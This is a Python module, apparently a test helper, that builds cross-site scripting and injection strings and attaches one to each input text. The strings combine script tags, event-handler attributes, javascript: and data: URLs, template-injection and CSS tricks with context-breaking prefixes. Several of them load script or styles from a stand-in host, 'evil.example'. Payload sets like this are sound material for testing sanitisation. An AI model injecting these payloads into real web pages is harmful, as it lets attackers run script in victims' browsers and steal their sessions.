"""Strings that try to become markup, script, a URL or a style."""

from __future__ import annotations

from itertools import product

_CODE = ("alert(1)", "confirm`1`", "window.opener.postMessage(1,'*')", "import('//evil.example/x.js')")
_SHELLS = (
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT >",
    "<script src=//evil.example/x.js>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<a href='javascript:{}'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<math><mtext><style><img src=x onerror={}></style>",
    "<template><script>{}</script></template>",
    "<object data='javascript:{}'></object>",
    "<base href='//evil.example/'>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='//evil.example/{}'>",
    "<style>*{{background:url(//evil.example/{})}}</style>",
    "javascript:{}",
    " JaVaScRiPt:{}//",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% for x in {} %}}",
    "${{{}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "url(javascript:{})",
    "expression({})",
)
_BREAKS = (
    "",
    "'",
    '"',
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "</pre></details>",
    "\N{NULL}",
    "\r\n\r\n",
    "' autofocus onfocus=x ",
)

PAYLOADS = tuple(mark + shell.format(code) for code, shell, mark in product(_CODE[:2], _SHELLS, _BREAKS))


class HostileText:
    """A hostile string for each text: the same one for the same text, another one in each round."""

    def __init__(self, round: int) -> None:
        self._round = round
        self.texts: dict[str, str] = {}

    def __call__(self, text: str) -> str:
        if text not in self.texts:
            number = (len(self.texts) + self._round * 97) % len(PAYLOADS)
            self.texts[text] = f"{PAYLOADS[number]} {text}"
        return self.texts[text]
